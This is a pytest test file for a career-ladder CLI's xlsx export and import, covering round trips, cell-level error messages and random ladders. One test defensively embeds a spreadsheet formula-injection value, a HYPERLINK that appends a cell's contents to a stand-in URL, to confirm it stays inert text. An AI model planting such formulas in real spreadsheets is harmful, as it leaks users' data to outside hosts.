"""`kb export --format xlsx` and `kb import`: a ladder to a workbook and back, exactly.

The round trip is judged as the issue asks, by `roles --format json` and `skills --format
json` before and after, and more strictly by the two files' models. Edited workbooks are
made with openpyxl, as a person would edit them in a spreadsheet; every problem is placed
at its cell as `ladder.xlsx:Roles!D7: …`.
"""

from __future__ import annotations

import io
import os
import shutil
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pexpect
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import SMALL_KB, run
from pmladder.errors import PmladderError
from pmladder.io.paths import bundled_kb_dir
from pmladder.knowledge.models import Requirement, RolesFile, SkillsFile
from pmladder.knowledge.spreadsheet import (
    LAYOUT,
    descriptor_cell,
    export_workbook,
    import_workbook,
    ladder_texts,
    parse_descriptor,
    parse_requirement,
    parse_years,
    read_ladder,
    read_texts,
    years_cell,
)

PMLADDER = str(Path(sys.executable).with_name("pmladder"))


@pytest.fixture(autouse=True)
def in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Files are named in messages relative to the working folder: `ladder.xlsx:Roles!D7`."""
    monkeypatch.chdir(tmp_path)


def export(kb: Path, target: Path) -> Path:
    result = run(["--kb", str(kb), "kb", "export", "--format", "xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.stderr
    return target


def import_(workbook: Path, folder: Path, *extra: str) -> Any:
    return run(["kb", "import", str(workbook), str(folder), *extra])


def listing(kb: Path) -> tuple[str, str]:
    """What the issue compares: `roles --format json` and `skills --format json`."""
    roles = run(["--kb", str(kb), "roles", "--format", "json"])
    skills = run(["--kb", str(kb), "skills", "--format", "json"])
    assert roles.exit_code == 0 and skills.exit_code == 0, roles.stderr + skills.stderr
    return roles.stdout, skills.stdout


LADDERS = {"bundled": bundled_kb_dir(), "small": SMALL_KB, "four-levels": SMALL_KB.parent / "four-levels"}


@pytest.mark.parametrize(
    "kb", [p for p in LADDERS.values() if p.is_dir()], ids=[n for n, p in LADDERS.items() if p.is_dir()]
)
def test_round_trip_is_exact(kb: Path, tmp_path: Path) -> None:
    workbook = export(kb, tmp_path / "ladder.xlsx")
    result = import_(workbook, tmp_path / "back")
    assert result.exit_code == 0, result.stderr
    assert "wrote" in result.stderr
    assert listing(tmp_path / "back") == listing(kb)
    assert read_ladder(tmp_path / "back") == read_ladder(kb)  # every field of both files, in file order
    for name in ("roles", "skills"):
        text = (tmp_path / "back" / f"{name}.yaml").read_text(encoding="utf-8")
        assert text.startswith(f"# yaml-language-server: $schema={name}.schema.json\n")
        assert (tmp_path / "back" / f"{name}.schema.json").is_file()
    assert run(["kb", "validate", str(tmp_path / "back")]).exit_code == 0
    again = export(tmp_path / "back", tmp_path / "again.xlsx")  # and a second lap changes nothing
    assert sheets(again) == sheets(workbook)


FOUR_LEVELS_ROLES = """\
about: {name: Acme ladder, version: '2024.2', licence: internal use only}
tracks:
  - {id: craft, name: Craft}
  - {id: people-management, name: People management}
roles:
  - id: pm
    name: PM
    track: craft
    rank: 1
    next_roles: [lead]
    requirements:
      - {skill: writing, level: 2}
      - {skill: coaching, level: 1, weight: 5}
  - id: lead
    name: Lead
    track: people-management
    rank: 2
    years: {min: 5, approximate: false}
    responsibilities: [Hires, Coaches]
    requirements:
      - {skill: writing, level: 3, weight: 2}
      - {skill: coaching, level: 4, weight: 4, delegated: true}
"""
FOUR_LEVELS_SKILLS = """\
scale:
  - {level: 1, label: Learning}
  - {level: 2, label: Doing, description: Does it.}
  - {level: 3, label: Leading}
  - {level: 4, label: Shaping}
categories:
  - {id: core, name: Core, description: The core.}
skills:
  - id: writing
    name: Writing
    category: core
    definition: Writes.
    levels:
      - Reads specs.
      - [Drafts specs, Asks for review]
      - ["=SUM(A1:A2) is not a formula", "+ keeps its plus"]
      - "A paragraph\nof two lines."
  - id: coaching
    name: Coaching
    category: core
    definition: Coaches.
    levels: [c1, c2, [c3], c4]
"""


def test_a_four_level_ladder_with_criteria_tracks_and_an_about_block(tmp_path: Path) -> None:
    kb = tmp_path / "four"
    kb.mkdir()
    (kb / "roles.yaml").write_text(FOUR_LEVELS_ROLES, encoding="utf-8")
    (kb / "skills.yaml").write_text(FOUR_LEVELS_SKILLS, encoding="utf-8")
    path = export(kb, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    assert [c.value for c in workbook["Skills"][1]][4:] == [
        "level 1 (Learning)",
        "level 2 (Doing)",
        "level 3 (Leading)",
        "level 4 (Shaping)",
    ]
    assert [c.value for c in workbook["Skills"][2]][5:7] == [
        "• Drafts specs\n• Asks for review",
        "• =SUM(A1:A2) is not a formula\n• + keeps its plus",
    ]
    assert [c.value for c in workbook["Roles"][3]][6:] == ["3/2", "4/4 delegated"]
    assert list(workbook["Tracks"].iter_rows(min_row=2, values_only=True)) == [
        ("craft", "Craft", None),
        ("people-management", "People management", None),
    ]
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(min_row=2, values_only=True)}
    assert about == {"about.name": "Acme ladder", "about.version": "2024.2", "about.licence": "internal use only"}
    assert import_(path, tmp_path / "back").exit_code == 0
    assert listing(tmp_path / "back") == listing(kb)
    assert read_ladder(tmp_path / "back") == read_ladder(kb)


def sheets(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    workbook = openpyxl.load_workbook(path)
    return {ws.title: [tuple(row) for row in ws.iter_rows(values_only=True)] for ws in workbook.worksheets}


def test_the_workbook_layout(tmp_path: Path) -> None:
    workbook = openpyxl.load_workbook(export(SMALL_KB, tmp_path / "ladder.xlsx"))
    assert workbook.sheetnames == list(LAYOUT)
    skills, roles = workbook["Skills"], workbook["Roles"]
    assert [c.value for c in skills[1]] == [
        "id",
        "name",
        "category",
        "definition",
        "level 1 (Aware)",
        "level 2 (Guided)",
        "level 3 (Independent)",
        "level 4 (Advanced)",
        "level 5 (Expert)",
    ]
    assert [c.value for c in roles[1]][:6] == ["id", "name", "track", "rank", "next roles", "aliases"]
    assert [c.value for c in roles[1]][6:] == ["writing", "shipping", "mentoring", "influence"]
    assert [c.value for c in roles[2]][6:] == ["2/3", "2/2", "1", "1"]  # level/weight; the level alone for weight 1
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes in ("A2", "B2", "C2")
        assert sheet["A1"].comment is not None and sheet["A1"].comment.text  # what the sheet is for
    details = list(workbook["Role details"].iter_rows(values_only=True))
    assert ("chief", "years", "~10+") in details
    assert ("junior", "responsibilities", "Writes tickets") in details
    salaries = list(workbook["Salaries"].iter_rows(values_only=True))
    assert salaries[1][:4] == ("chief", "London", "United Kingdom", 100000)
    assert isinstance(salaries[1][3], int)  # numbers stay numbers
    checks = {str(v.sqref): v for v in roles.data_validations.dataValidation}
    assert any(v.formula1 and '"1,2,3,4,5,1/1' in v.formula1 for v in checks.values())


def test_export_needs_a_file_or_a_pipe(tmp_path: Path) -> None:
    piped = run(["--kb", str(SMALL_KB), "kb", "export", "-o", "-"])
    assert piped.exit_code == 0
    assert piped.stdout_bytes.startswith(b"PK")  # a zip: the workbook's bytes, untouched
    openpyxl.load_workbook(io.BytesIO(piped.stdout_bytes))
    env = {**os.environ, "NO_COLOR": "1", "PMLADDER_KB": str(SMALL_KB)}
    child = pexpect.spawn(PMLADDER, ["kb", "export"], env=env, encoding="utf-8", timeout=20, cwd=str(tmp_path))
    child.expect("a workbook is a binary file, not for the terminal; add -o ladder.xlsx")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 2
    assert list(tmp_path.iterdir()) == []


def test_export_speaks_only_xlsx_and_keeps_an_existing_file(tmp_path: Path) -> None:
    for args in (["--format", "json"], ["-o", str(tmp_path / "ladder.csv")]):
        result = run(["kb", "export", *args])
        assert result.exit_code == 2
        assert "kb export writes a workbook (--format xlsx) only" in result.stderr
        assert "'pmladder roles --format json' and 'pmladder skills --format json'" in result.stderr
    target = tmp_path / "ladder.xlsx"
    target.write_bytes(b"edited by HR")
    result = run(["kb", "export", "-o", str(target)])
    assert result.exit_code == 2
    assert "already exists; pass --force to overwrite it" in result.stderr
    assert target.read_bytes() == b"edited by HR"
    assert run(["kb", "export", "-o", str(target), "--force"]).exit_code == 0
    assert target.read_bytes().startswith(b"PK")


def test_an_edited_workbook_imports_with_the_change(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    roles = workbook["Roles"]
    roles["G3"] = "4/2"  # lead: writing from 3/2 to 4/2
    roles["J2"] = 2  # junior: influence at level 2, typed as a number (weight 1, the default)
    workbook["Skills"].append(
        ["storytelling", "Storytelling", "people", "Tells stories.", "t1", "t2", "t3", "t4", "t5"]
    )
    roles.cell(row=1, column=roles.max_column + 1, value="storytelling")
    roles.cell(row=4, column=roles.max_column, value="3/4")
    workbook["Projects"].append(["storytelling", "Tell one", "A talk", 2, 4])
    workbook.save(path)
    result = import_(path, tmp_path / "back")
    assert result.exit_code == 0, result.stderr
    roles_file, skills_file = read_ladder(tmp_path / "back")
    lead = next(r for r in roles_file.roles if r.id == "lead")
    assert next(q for q in lead.requirements if q.skill == "writing").level == 4
    chief = next(r for r in roles_file.roles if r.id == "chief")
    assert chief.requirements[-1] == Requirement(skill="storytelling", level=3, weight=4)
    junior = next(r for r in roles_file.roles if r.id == "junior")
    assert junior.requirements[-1] == Requirement(skill="influence", level=2)
    assert skills_file.skills[-1].id == "storytelling"
    assert skills_file.skills[-1].levels[2] == "t3"
    shown = run(["--kb", str(tmp_path / "back"), "skills", "show", "storytelling"])
    assert shown.exit_code == 0 and "Tells stories." in shown.stdout


def test_every_problem_at_its_cell_at_once_and_nothing_written(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    roles = workbook["Roles"]
    roles.cell(row=1, column=11, value="stakeholdr")  # an unknown skill column
    roles["K2"] = "3/2"
    roles["G3"] = "9/2"  # a level of 9
    roles["A4"] = None  # a missing id
    roles["H2"] = "2/0"  # a weight of 0
    roles.append(["junior", "Again", "ic", 1, None, None, "1/1"])  # a duplicate id
    roles["B3"] = None  # an empty required cell
    roles["I3"] = "lots"  # not a level
    workbook["Skills"]["B3"] = '=HYPERLINK("http://example.com","x")'  # a real formula, typed in
    workbook.save(path)
    folder = tmp_path / "out"
    result = import_(path, folder)
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [
        "ladder.xlsx:Skills!B3: holds a formula; pmladder reads values only: type the value itself",
        "ladder.xlsx:Roles!K1: column 'stakeholdr' is not a skill: unknown skill 'stakeholdr' (choose one of: writing, shipping, mentoring, influence)",
        "ladder.xlsx:Roles!H2: weight: expected a whole number from 1 to 5, got the number 0",
        "ladder.xlsx:Roles!B3: name is empty; it is required",
        "ladder.xlsx:Roles!G3: level: expected a whole number from 1 to 5, got the number 9",
        "ladder.xlsx:Roles!I3: expected a level like 3, or level/weight like 3/2 (add 'delegated' after it if so), got the text 'lots'",
        "ladder.xlsx:Roles!A4: id is empty; it is required",
        "ladder.xlsx:Roles!A5: duplicate role id 'junior' (first at row 2)",
        "ladder.xlsx:'Role details'!A14: unknown role 'chief' (choose one of: junior, lead) (and 8 more like it)",
    ]
    assert result.stdout == ""
    assert not folder.exists()


def test_problems_of_sheets_columns_and_values(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    workbook.create_sheet("Role detail")
    workbook["Projects"]["E1"] = "effort"
    workbook["Skills"]["E3"] = None  # a descriptor left empty
    details = workbook["Role details"]
    years = [row[2] for row in details.iter_rows(min_row=2) if row[1].value == "years"]
    years[0].value = "3-5"  # without a tilde: exact, not approximate
    years[1].value = "three to five"
    workbook["Roles"]["D2"] = "first"
    workbook.save(path)
    result = import_(path, tmp_path / "out")
    assert result.exit_code == 2
    lines = result.stderr.splitlines()
    assert "ladder.xlsx:Skills!E3: must not be empty" in lines
    assert (
        "ladder.xlsx:Projects!E1: unknown column 'effort' (did you mean 'effort hours'?); this sheet's columns are: "
        "skill, title, deliverable, builds to, effort hours, setting, origin" in lines
    )
    assert "ladder.xlsx:Roles!D2: expected a whole number, got the text 'first'" in lines
    assert "ladder.xlsx:Projects!A1: the sheet has no 'effort hours' column, and every row needs one" in lines
    assert (
        f"ladder.xlsx:'Role details'!{years[1].coordinate}: expected years like ~2-4, 3-5 or ~15+ (~ for approximate), got the text 'three to five'"
        in lines
    )
    assert lines[-1].startswith(
        "ladder.xlsx:'Role detail'!A1: unknown sheet 'Role detail' (did you mean 'Role details'?)"
    )


def test_a_formula_looking_name_stays_text(tmp_path: Path) -> None:
    kb = tmp_path / "kb"
    shutil.copytree(SMALL_KB, kb)
    name = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
    roles = kb / "roles.yaml"
    roles.write_text(roles.read_text(encoding="utf-8").replace("name: Junior PM", f"name: '{name}'"), encoding="utf-8")
    skills = kb / "skills.yaml"
    skills.write_text(
        skills.read_text(encoding="utf-8").replace("Writes clear specs.", "'+1 writes -specs @all'"), encoding="utf-8"
    )
    path = export(kb, tmp_path / "ladder.xlsx")
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml  # not one formula in the workbook
    cell = openpyxl.load_workbook(path)["Roles"]["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix, cell.number_format) == (name, "s", True, "@")
    assert import_(path, tmp_path / "back").exit_code == 0
    back_roles, back_skills = read_ladder(tmp_path / "back")
    assert back_roles.roles[0].name == name
    assert back_skills.skills[0].definition == "+1 writes -specs @all"


def test_import_refuses_a_folder_with_files_unless_forced(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    folder = tmp_path / "ours"
    folder.mkdir()
    (folder / "notes.txt").write_text("mine", encoding="utf-8")
    result = import_(path, folder)
    assert result.exit_code == 2
    assert result.stderr.strip().endswith("the folder is not empty; pass --force to write the ladder into it")
    assert sorted(p.name for p in folder.iterdir()) == ["notes.txt"]
    assert import_(path, folder, "--force").exit_code == 0
    assert (folder / "roles.yaml").is_file() and (folder / "notes.txt").read_text(encoding="utf-8") == "mine"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"id,name\n", "not an Excel workbook (.xlsx)"),
        (
            b"\xd0\xcf\x11\xe0" + b"\0" * 100,
            "not an Excel workbook (.xlsx) (it looks like an old .xls file: save it as .xlsx)",
        ),
        (b"PK\x03\x04broken", "cannot read this workbook: the .xlsx file is damaged or not a spreadsheet"),
    ],
    ids=["csv", "xls", "damaged"],
)
def test_not_a_workbook(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "ladder.xlsx"
    path.write_bytes(content)
    result = import_(path, tmp_path / "out")
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [f"ladder.xlsx: {message}"]
    assert not (tmp_path / "out").exists()


def test_a_zip_that_is_not_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "ladder.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "hi")
    with pytest.raises(PmladderError, match="a zip file without a workbook in it"):
        import_workbook(path.read_bytes(), "ladder.xlsx")


def test_a_missing_sheet(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    del workbook["Scale"]
    workbook.save(path)
    with pytest.raises(PmladderError) as caught:
        import_workbook(path.read_bytes(), "ladder.xlsx")
    assert [str(p) for p in caught.value.problems] == ["ladder.xlsx: the workbook has no 'Scale' sheet"]


def test_a_date_where_a_level_was_typed(tmp_path: Path) -> None:
    import datetime as dt

    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    workbook["Roles"]["G2"] = dt.datetime(2026, 3, 2)  # what 3/2 becomes when typed into a General cell
    workbook.save(path)
    with pytest.raises(PmladderError) as caught:
        import_workbook(path.read_bytes(), "ladder.xlsx")
    assert [str(p) for p in caught.value.problems] == [
        "ladder.xlsx:Roles!G2: the spreadsheet turned this into a date or time; format the cell as Text and type it again"
    ]


def test_cells_of_words() -> None:
    assert descriptor_cell("Does it alone.") == "Does it alone."
    assert descriptor_cell(["Writes specs", "Reviews specs"]) == "• Writes specs\n• Reviews specs"
    assert parse_descriptor("• Writes specs\n• Reviews specs") == [" Writes specs", " Reviews specs"]
    assert parse_descriptor("• one\nand more\n• two") == [" one\nand more", " two"]
    assert parse_descriptor("A paragraph\n• with a bullet inside") == "A paragraph\n• with a bullet inside"
    assert parse_years("~2-4") == {"min": 2, "max": 4}
    assert parse_years("3 - 5") == {"min": 3, "max": 5, "approximate": False}
    assert parse_years("~15+") == {"min": 15}
    assert parse_years("3") is None
    assert [years_cell(y) for y in ({"min": 2, "max": 4}, {"min": 15, "approximate": False})] == ["~2-4", "15+"]
    assert parse_requirement("3/2 delegated") == (3, 2, True)
    assert parse_requirement(" 4 ") == (4, None, False)
    assert parse_requirement(3.0) == (3, None, False)
    assert parse_requirement("3.5") is None


def test_a_paragraph_that_would_read_back_as_a_list_is_refused() -> None:
    roles, skills = read_ladder(SMALL_KB)
    first = skills.skills[0].model_copy(update={"levels": ("• looks like a list", "b", "c", "d", "e")})
    broken = skills.model_copy(update={"skills": [first, *skills.skills[1:]]})
    with pytest.raises(PmladderError) as caught:
        export_workbook(roles, broken)
    assert [str(p) for p in caught.value.problems] == [
        "cannot export Skills, the row of 'writing', column 'level 1 (Aware)': a paragraph that starts with "
        "'•' would read back as a list of criteria; start it otherwise"
    ]


# --- random ladders -------------------------------------------------------------------------

# Text a ladder may hold: printable characters in any script, spaces and line breaks; with a
# formula's first characters and a spreadsheet's special words among them.
_CHARS = st.characters(blacklist_categories=("Cc", "Cs", "Co", "Cn", "Cf", "Zl", "Zp", "Zs")) | st.sampled_from(
    " \n=+-@/~•"
)
TEXT = st.text(_CHARS, min_size=1, max_size=24).filter(lambda t: bool(t.strip()))
WORD = TEXT | st.sampled_from(["=1+1", "TRUE", "3/2", "0012", "1e5", "-x", "@here", "_x0041_", "#N/A"])
LINE = WORD.filter(lambda t: not t.lstrip().startswith("•"))  # a descriptor: see the refused case above


def maybe(draw: st.DrawFn, item: dict[str, Any], key: str, strategy: st.SearchStrategy[Any]) -> None:
    """An optional key, present half the time."""
    if draw(st.booleans()):
        item[key] = draw(strategy)


@st.composite
def ladders(draw: st.DrawFn) -> tuple[RolesFile, SkillsFile]:
    """A small valid ladder: a scale of 3-7 levels, 1-3 skills, 1-3 roles, every optional part now and then."""
    n_levels = draw(st.integers(3, 7))
    scale = []
    for n in range(1, n_levels + 1):
        level: dict[str, Any] = {"level": n, "label": draw(WORD)}
        maybe(draw, level, "description", WORD)
        scale.append(level)
    n_skills = draw(st.integers(1, 3))
    categories = [
        {"id": f"c{i}", "name": draw(WORD), "description": draw(WORD)} for i in range(draw(st.integers(1, 2)))
    ]
    descriptor = LINE | st.lists(LINE, min_size=1, max_size=3)
    project = st.fixed_dictionaries(
        {
            "title": WORD,
            "deliverable": WORD,
            "builds_to": st.integers(1, n_levels),
            "effort_hours": st.integers(1, 400),
        },
        optional={"setting": st.sampled_from(["work", "outside"]), "origin": WORD},
    )
    learning = st.fixed_dictionaries(
        {"format": st.sampled_from(["course", "reading", "mentoring"]), "suggestion": WORD}
    )
    skills = []
    for i in range(n_skills):
        levels = draw(st.lists(descriptor, min_size=n_levels, max_size=n_levels, unique_by=repr))
        skill: dict[str, Any] = {
            "id": f"skill-{i}",
            "name": draw(WORD),
            "category": draw(st.sampled_from(categories))["id"],
            "definition": draw(WORD),
            "levels": levels,
        }
        maybe(draw, skill, "projects", st.lists(project, min_size=1, max_size=3))
        maybe(draw, skill, "learning", st.lists(learning, min_size=1, max_size=2))
        maybe(draw, skill, "sources", st.lists(WORD, min_size=1, max_size=2))
        maybe(draw, skill, "notes", st.lists(WORD, min_size=1, max_size=2))
        skills.append(skill)
    track_ids = draw(
        st.lists(st.sampled_from(["foundation", "ic", "people-management", "x"]), min_size=1, max_size=3, unique=True)
    )
    n_roles = draw(st.integers(1, 3))
    roles = []
    for i in range(n_roles):
        wanted = draw(st.lists(st.integers(0, n_skills - 1), min_size=1, unique=True))
        requirements = []
        for j in sorted(wanted):
            requirement: dict[str, Any] = {"skill": f"skill-{j}", "level": draw(st.integers(1, n_levels))}
            maybe(draw, requirement, "weight", st.integers(1, 5))
            maybe(draw, requirement, "delegated", st.just(True))
            requirements.append(requirement)
        role: dict[str, Any] = {
            "id": f"role-{i}",
            "name": draw(WORD),
            "track": draw(st.sampled_from(track_ids)),
            "rank": draw(st.integers(1, 20)),
            "requirements": requirements,
        }
        if i + 1 < n_roles and draw(st.booleans()):
            role["next_roles"] = [f"role-{i + 1}"]
        for key in ("summary", "scope", "bar"):
            maybe(draw, role, key, WORD)
        for key in ("responsibilities", "day_to_day", "challenges", "qualities", "sources"):
            maybe(draw, role, key, st.lists(WORD, min_size=1, max_size=2))
        low = draw(st.integers(0, 20))
        years = st.fixed_dictionaries(
            {"min": st.just(low)}, optional={"max": st.integers(low, 50), "approximate": st.just(False)}
        )
        maybe(draw, role, "years", years)
        if draw(st.booleans()):
            role["aliases"] = [f"alias-{i}"]
            role["projects"] = [{"title": draw(WORD), "deliverable": draw(WORD), "skills": ["skill-0"]}]
            role["related_titles"] = [{"role": "role-0", "relation": draw(WORD)}]
        if draw(st.booleans()):
            figure = {
                "city": draw(WORD),
                "country": draw(WORD),
                "median": draw(st.integers(1, 10**9)),
                "currency": "EUR",
            }
            maybe(draw, figure, "note", WORD)
            table: dict[str, Any] = {"source": draw(WORD), "figures": [figure]}
            maybe(draw, table, "estimate", st.just(False))
            maybe(draw, table, "note", WORD)
            role["salaries"] = table
        roles.append(role)
    head: dict[str, Any] = {}
    version = draw(WORD)
    about = draw(st.sampled_from(["none", "note", "block"]))
    if about == "note":
        head["about"] = draw(WORD)
    if about == "block":
        block = {"version": version} if draw(st.booleans()) else {}
        for key in ("name", "source", "licence", "note"):
            maybe(draw, block, key, WORD)
        head["about"] = block or {"name": draw(WORD)}  # an empty block is no about at all: it reads back as none
    if about != "block" or "version" not in head["about"]:
        head["version"] = version
    if draw(st.booleans()):
        head["tracks"] = [{"id": t, "name": draw(WORD)} for t in track_ids]
    skills_file: dict[str, Any] = {"scale": scale, "categories": categories, "skills": skills}
    maybe(draw, skills_file, "version", st.just(version))
    return RolesFile.model_validate({**head, "roles": roles}), SkillsFile.model_validate(skills_file)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ladder=ladders())
def test_random_ladders_round_trip(ladder: tuple[RolesFile, SkillsFile]) -> None:
    roles, skills = ladder
    imported = import_workbook(export_workbook(roles, skills), "ladder.xlsx")
    assert (imported.roles, imported.skills) == (roles, skills)
    files = ladder_texts(imported, "ladder.xlsx", Path("out"))  # and the YAML written reads back the same
    assert read_texts(files) == (roles, skills)
